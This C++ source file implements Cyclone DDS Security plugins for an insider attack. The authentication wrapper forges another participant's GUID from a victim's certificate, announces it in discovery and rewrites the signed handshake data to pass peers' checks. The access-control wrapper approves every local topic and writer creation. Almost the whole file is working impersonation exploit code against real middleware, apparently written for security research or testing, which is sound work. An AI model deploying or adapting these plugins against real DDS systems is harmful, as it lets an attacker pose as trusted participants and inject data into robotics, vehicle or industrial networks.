// insider_plugins: Cyclone DDS security plugins for an insider who lies about whose participant
// it is.
//
// Authentication (init_insider_authentication / finalize_insider_authentication) wraps Cyclone's
// own PKI-DH plugin (libdds_security_auth, linked in) and forwards every call to it, changing three
// things when the environment variable MOSTAR_INSIDER_VICTIM_CERT names a certificate (PEM or DER)
// of someone else:
//   - validate_local_identity: the participant's GUID becomes the one PKI-DH derives from the
//     victim's certificate subject (same candidate bits), so SPDP announces the victim's GUID;
//   - begin_handshake_request / begin_handshake_reply: the serialized participant data that goes
//     into the handshake (c.pdata, signed with the attacker's own key) carries the GUID derived
//     from the attacker's own certificate, so c.pdata is consistent with the handshake
//     certificate, as a peer's PKI-DH checks;
//   - validate_remote_identity: who starts the handshake is decided on the announced GUID (as
//     the peer decides it), not on the attacker's own.
// Without that variable it is the plain plugin. Load it with the participant properties
// dds.sec.auth.library.{path,init,finalize} = this library, init_insider_authentication,
// finalize_insider_authentication. One line per forged GUID goes to standard error.
//
// Access control (init_insider_access_control / finalize_insider_access_control) wraps Cyclone's
// (libdds_security_ac) and allows every local topic and writer creation: the attacker's own
// stack does not hold it back, so only the peers' checks stand between it and them.
#include <dds/security/dds_security_api_access_control.h>
#include <dds/security/dds_security_api_authentication.h>
#include <openssl/pem.h>
#include <openssl/sha.h>
#include <openssl/x509.h>

#include <array>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <vector>

extern "C" {
// Cyclone's builtin authentication plugin (libdds_security_auth).
int32_t init_authentication(const char* argument, void** context, struct ddsi_domaingv* gv);
int32_t finalize_authentication(void* context);

// Cyclone's builtin access control plugin (libdds_security_ac).
int32_t init_access_control(const char* argument, void** context, struct ddsi_domaingv* gv);
int32_t finalize_access_control(void* context);

int32_t init_insider_authentication(const char* argument, void** context, struct ddsi_domaingv* gv);
int32_t finalize_insider_authentication(void* context);
int32_t init_insider_access_control(const char* argument, void** context, struct ddsi_domaingv* gv);
int32_t finalize_insider_access_control(void* context);
}

namespace {

using Guid = DDS_Security_GUID_t;
using Prefix = std::array<unsigned char, 12>;

struct Insider {
  dds_security_authentication base;  // first: Cyclone calls through it with a pointer to Insider
  dds_security_authentication* real = nullptr;
  std::vector<unsigned char> victim_subject;  // DER subject name; empty: no forgery
  bool forging = false;
  Prefix own{};     // GUID prefix derived from the attacker's certificate
  Prefix victim{};  // GUID prefix announced
  Guid announced{};
};

struct Permissive {
  dds_security_access_control base;  // first, as above
  dds_security_access_control* real = nullptr;
};

Insider* Self(dds_security_authentication* instance) {
  return reinterpret_cast<Insider*>(instance);
}
Permissive* Self(dds_security_access_control* instance) {
  return reinterpret_cast<Permissive*>(instance);
}

// Calls the wrapped plugin's function `M` with the wrapped instance.
template <typename F>
struct Forward;
template <typename P, typename R, typename... A>
struct Forward<R (*)(P*, A...)> {
  template <R (*P::*M)(P*, A...)>
  static R Call(P* instance, A... args) {
    P* real = Self(instance)->real;
    return (real->*M)(real, args...);
  }
};
#define MOSTAR_FORWARD(plugin, field) Forward<decltype(plugin::field)>::Call<&plugin::field>
#define MOSTAR_AUTH(field) MOSTAR_FORWARD(dds_security_authentication, field)
#define MOSTAR_AC(field) MOSTAR_FORWARD(dds_security_access_control, field)

// The subject name (DER) of the certificate in `path`, PEM or DER; empty on failure.
std::vector<unsigned char> SubjectOf(const char* path) {
  std::vector<unsigned char> subject;
  FILE* file = std::fopen(path, "rb");
  if (file == nullptr) return subject;
  X509* cert = PEM_read_X509(file, nullptr, nullptr, nullptr);
  if (cert == nullptr) {
    std::rewind(file);
    cert = d2i_X509_fp(file, nullptr);
  }
  std::fclose(file);
  if (cert == nullptr) return subject;
  unsigned char* der = nullptr;
  const int size = i2d_X509_NAME(X509_get_subject_name(cert), &der);
  if (size > 0) subject.assign(der, der + size);
  OPENSSL_free(der);
  X509_free(cert);
  return subject;
}

// PKI-DH (DDS-Security 1.1, 9.3.3): bit 47..0 of the prefix's first 6 bytes are a 1 bit then the
// first 47 bits of SHA-256(subject); the last 6 bytes the first 6 of SHA-256(candidate prefix).
Guid AdjustedGuid(const std::vector<unsigned char>& subject, const Guid& candidate) {
  unsigned char high[SHA256_DIGEST_LENGTH];
  unsigned char low[SHA256_DIGEST_LENGTH];
  SHA256(subject.data(), subject.size(), high);
  SHA256(candidate.prefix, sizeof(candidate.prefix), low);
  Guid adjusted = candidate;
  unsigned char carry = 0x80;
  for (int i = 0; i < 6; ++i) {
    adjusted.prefix[i] = static_cast<unsigned char>(carry | (high[i] >> 1));
    carry = static_cast<unsigned char>(high[i] << 7);
  }
  for (int i = 0; i < 6; ++i) adjusted.prefix[i + 6] = low[i];
  return adjusted;
}

Prefix PrefixOf(const Guid& guid) {
  Prefix p;
  std::memcpy(p.data(), guid.prefix, p.size());
  return p;
}

void PrintPrefix(const char* label, const Prefix& p) {
  std::fprintf(stderr, " %s=", label);
  for (unsigned char b : p) std::fprintf(stderr, "%02x", b);
}

DDS_Security_ValidationResult_t ValidateLocalIdentity(
    dds_security_authentication* instance, DDS_Security_IdentityHandle* local_identity_handle,
    DDS_Security_GUID_t* adjusted_participant_guid, const DDS_Security_DomainId domain_id,
    const DDS_Security_Qos* participant_qos, const DDS_Security_GUID_t* candidate_participant_guid,
    DDS_Security_SecurityException* ex) {
  Insider* self = Self(instance);
  const DDS_Security_ValidationResult_t result = self->real->validate_local_identity(
      self->real, local_identity_handle, adjusted_participant_guid, domain_id, participant_qos,
      candidate_participant_guid, ex);
  if (result != DDS_SECURITY_VALIDATION_OK || self->victim_subject.empty()) return result;
  self->own = PrefixOf(*adjusted_participant_guid);
  *adjusted_participant_guid = AdjustedGuid(self->victim_subject, *candidate_participant_guid);
  self->announced = *adjusted_participant_guid;
  self->victim = PrefixOf(*adjusted_participant_guid);
  self->forging = true;
  std::fprintf(stderr, "insider_plugins: forging");
  PrintPrefix("announced_prefix", self->victim);
  PrintPrefix("handshake_prefix", self->own);
  std::fprintf(stderr, "\n");
  return result;
}

DDS_Security_ValidationResult_t ValidateRemoteIdentity(
    dds_security_authentication* instance, DDS_Security_IdentityHandle* remote_identity_handle,
    DDS_Security_AuthRequestMessageToken* local_auth_request_token,
    const DDS_Security_AuthRequestMessageToken* remote_auth_request_token,
    const DDS_Security_IdentityHandle local_identity_handle,
    const DDS_Security_IdentityToken* remote_identity_token,
    const DDS_Security_GUID_t* remote_participant_guid, DDS_Security_SecurityException* ex) {
  Insider* self = Self(instance);
  const DDS_Security_ValidationResult_t result = self->real->validate_remote_identity(
      self->real, remote_identity_handle, local_auth_request_token, remote_auth_request_token,
      local_identity_handle, remote_identity_token, remote_participant_guid, ex);
  if (!self->forging || (result != DDS_SECURITY_VALIDATION_PENDING_HANDSHAKE_REQUEST &&
                         result != DDS_SECURITY_VALIDATION_PENDING_HANDSHAKE_MESSAGE)) {
    return result;
  }
  // The plugin compared its own GUID with the peer's; the peer compares the announced one.
  return std::memcmp(&self->announced, remote_participant_guid, sizeof(Guid)) < 0
             ? DDS_SECURITY_VALIDATION_PENDING_HANDSHAKE_REQUEST
             : DDS_SECURITY_VALIDATION_PENDING_HANDSHAKE_MESSAGE;
}

// A copy of `pdata` with every occurrence of the announced GUID prefix replaced by the one that
// derives from the attacker's certificate.
std::vector<unsigned char> HonestPdata(const Insider& self, const DDS_Security_OctetSeq& pdata) {
  std::vector<unsigned char> out(pdata._buffer, pdata._buffer + pdata._length);
  int replaced = 0;
  for (size_t i = 0; i + self.victim.size() <= out.size(); ++i) {
    if (std::memcmp(&out[i], self.victim.data(), self.victim.size()) == 0) {
      std::memcpy(&out[i], self.own.data(), self.own.size());
      ++replaced;
    }
  }
  if (replaced == 0) std::fprintf(stderr, "insider_plugins: no announced GUID in c.pdata\n");
  return out;
}

DDS_Security_ValidationResult_t BeginHandshakeRequest(
    dds_security_authentication* instance, DDS_Security_HandshakeHandle* handshake_handle,
    DDS_Security_HandshakeMessageToken* handshake_message,
    const DDS_Security_IdentityHandle initiator_identity_handle,
    const DDS_Security_IdentityHandle replier_identity_handle,
    const DDS_Security_OctetSeq* serialized_local_participant_data,
    DDS_Security_SecurityException* ex) {
  Insider* self = Self(instance);
  if (!self->forging || serialized_local_participant_data == nullptr) {
    return self->real->begin_handshake_request(self->real, handshake_handle, handshake_message,
                                               initiator_identity_handle, replier_identity_handle,
                                               serialized_local_participant_data, ex);
  }
  std::vector<unsigned char> pdata = HonestPdata(*self, *serialized_local_participant_data);
  DDS_Security_OctetSeq seq{};
  seq._length = seq._maximum = static_cast<uint32_t>(pdata.size());
  seq._buffer = pdata.data();
  return self->real->begin_handshake_request(self->real, handshake_handle, handshake_message,
                                             initiator_identity_handle, replier_identity_handle,
                                             &seq, ex);
}

DDS_Security_ValidationResult_t BeginHandshakeReply(
    dds_security_authentication* instance, DDS_Security_HandshakeHandle* handshake_handle,
    DDS_Security_HandshakeMessageToken* handshake_message_out,
    const DDS_Security_HandshakeMessageToken* handshake_message_in,
    const DDS_Security_IdentityHandle initiator_identity_handle,
    const DDS_Security_IdentityHandle replier_identity_handle,
    const DDS_Security_OctetSeq* serialized_local_participant_data,
    DDS_Security_SecurityException* ex) {
  Insider* self = Self(instance);
  if (!self->forging || serialized_local_participant_data == nullptr) {
    return self->real->begin_handshake_reply(
        self->real, handshake_handle, handshake_message_out, handshake_message_in,
        initiator_identity_handle, replier_identity_handle, serialized_local_participant_data, ex);
  }
  std::vector<unsigned char> pdata = HonestPdata(*self, *serialized_local_participant_data);
  DDS_Security_OctetSeq seq{};
  seq._length = seq._maximum = static_cast<uint32_t>(pdata.size());
  seq._buffer = pdata.data();
  return self->real->begin_handshake_reply(self->real, handshake_handle, handshake_message_out,
                                           handshake_message_in, initiator_identity_handle,
                                           replier_identity_handle, &seq, ex);
}

DDS_Security_boolean AllowCreateDatawriter(
    dds_security_access_control*, const DDS_Security_PermissionsHandle, const DDS_Security_DomainId,
    const DDS_Security_char*, const DDS_Security_Qos*, const DDS_Security_PartitionQosPolicy*,
    const DDS_Security_DataTags*, DDS_Security_SecurityException*) {
  return true;
}

DDS_Security_boolean AllowCreateTopic(dds_security_access_control*,
                                      const DDS_Security_PermissionsHandle,
                                      const DDS_Security_DomainId, const DDS_Security_char*,
                                      const DDS_Security_Qos*, DDS_Security_SecurityException*) {
  return true;
}

}  // namespace

extern "C" int32_t init_insider_authentication(const char* argument, void** context,
                                               struct ddsi_domaingv* gv) {
  void* real = nullptr;
  const int32_t status = init_authentication(argument, &real, gv);
  if (status != 0) return status;
  auto* self = new Insider;
  self->real = static_cast<dds_security_authentication*>(real);
  dds_security_authentication& b = self->base;
  b = *self->real;  // gv
  b.validate_local_identity = ValidateLocalIdentity;
  b.get_identity_token = MOSTAR_AUTH(get_identity_token);
  b.get_identity_status_token = MOSTAR_AUTH(get_identity_status_token);
  b.set_permissions_credential_and_token = MOSTAR_AUTH(set_permissions_credential_and_token);
  b.validate_remote_identity = ValidateRemoteIdentity;
  b.begin_handshake_request = BeginHandshakeRequest;
  b.begin_handshake_reply = BeginHandshakeReply;
  b.process_handshake = MOSTAR_AUTH(process_handshake);
  b.get_shared_secret = MOSTAR_AUTH(get_shared_secret);
  b.get_authenticated_peer_credential_token = MOSTAR_AUTH(get_authenticated_peer_credential_token);
  b.set_listener = MOSTAR_AUTH(set_listener);
  b.return_identity_token = MOSTAR_AUTH(return_identity_token);
  b.return_identity_status_token = MOSTAR_AUTH(return_identity_status_token);
  b.return_authenticated_peer_credential_token =
      MOSTAR_AUTH(return_authenticated_peer_credential_token);
  b.return_handshake_handle = MOSTAR_AUTH(return_handshake_handle);
  b.return_identity_handle = MOSTAR_AUTH(return_identity_handle);
  b.return_sharedsecret_handle = MOSTAR_AUTH(return_sharedsecret_handle);
  if (const char* path = std::getenv("MOSTAR_INSIDER_VICTIM_CERT"); path != nullptr && *path) {
    self->victim_subject = SubjectOf(path);
    if (self->victim_subject.empty()) {
      std::fprintf(stderr, "insider_plugins: cannot read the certificate %s\n", path);
      finalize_authentication(real);
      delete self;
      return -1;
    }
  }
  *context = self;
  return 0;
}

extern "C" int32_t finalize_insider_authentication(void* context) {
  auto* self = static_cast<Insider*>(context);
  const int32_t status = finalize_authentication(self->real);
  delete self;
  return status;
}

extern "C" int32_t init_insider_access_control(const char* argument, void** context,
                                               struct ddsi_domaingv* gv) {
  void* real = nullptr;
  const int32_t status = init_access_control(argument, &real, gv);
  if (status != 0) return status;
  auto* self = new Permissive;
  self->real = static_cast<dds_security_access_control*>(real);
  dds_security_access_control& b = self->base;
  b = *self->real;  // gv
  b.validate_local_permissions = MOSTAR_AC(validate_local_permissions);
  b.validate_remote_permissions = MOSTAR_AC(validate_remote_permissions);
  b.check_create_participant = MOSTAR_AC(check_create_participant);
  b.check_create_datawriter = AllowCreateDatawriter;
  b.check_create_datareader = MOSTAR_AC(check_create_datareader);
  b.check_create_topic = AllowCreateTopic;
  b.check_local_datawriter_register_instance = MOSTAR_AC(check_local_datawriter_register_instance);
  b.check_local_datawriter_dispose_instance = MOSTAR_AC(check_local_datawriter_dispose_instance);
  b.check_remote_participant = MOSTAR_AC(check_remote_participant);
  b.check_remote_datawriter = MOSTAR_AC(check_remote_datawriter);
  b.check_remote_datareader = MOSTAR_AC(check_remote_datareader);
  b.check_remote_topic = MOSTAR_AC(check_remote_topic);
  b.check_local_datawriter_match = MOSTAR_AC(check_local_datawriter_match);
  b.check_local_datareader_match = MOSTAR_AC(check_local_datareader_match);
  b.check_remote_datawriter_register_instance =
      MOSTAR_AC(check_remote_datawriter_register_instance);
  b.check_remote_datawriter_dispose_instance = MOSTAR_AC(check_remote_datawriter_dispose_instance);
  b.get_permissions_token = MOSTAR_AC(get_permissions_token);
  b.get_permissions_credential_token = MOSTAR_AC(get_permissions_credential_token);
  b.set_listener = MOSTAR_AC(set_listener);
  b.return_permissions_token = MOSTAR_AC(return_permissions_token);
  b.return_permissions_credential_token = MOSTAR_AC(return_permissions_credential_token);
  b.get_participant_sec_attributes = MOSTAR_AC(get_participant_sec_attributes);
  b.get_topic_sec_attributes = MOSTAR_AC(get_topic_sec_attributes);
  b.get_datawriter_sec_attributes = MOSTAR_AC(get_datawriter_sec_attributes);
  b.get_datareader_sec_attributes = MOSTAR_AC(get_datareader_sec_attributes);
  b.return_participant_sec_attributes = MOSTAR_AC(return_participant_sec_attributes);
  b.return_topic_sec_attributes = MOSTAR_AC(return_topic_sec_attributes);
  b.return_datawriter_sec_attributes = MOSTAR_AC(return_datawriter_sec_attributes);
  b.return_datareader_sec_attributes = MOSTAR_AC(return_datareader_sec_attributes);
  b.return_permissions_handle = MOSTAR_AC(return_permissions_handle);
  *context = self;
  return 0;
}

extern "C" int32_t finalize_insider_access_control(void* context) {
  auto* self = static_cast<Permissive*>(context);
  const int32_t status = finalize_access_control(self->real);
  delete self;
  return status;
}
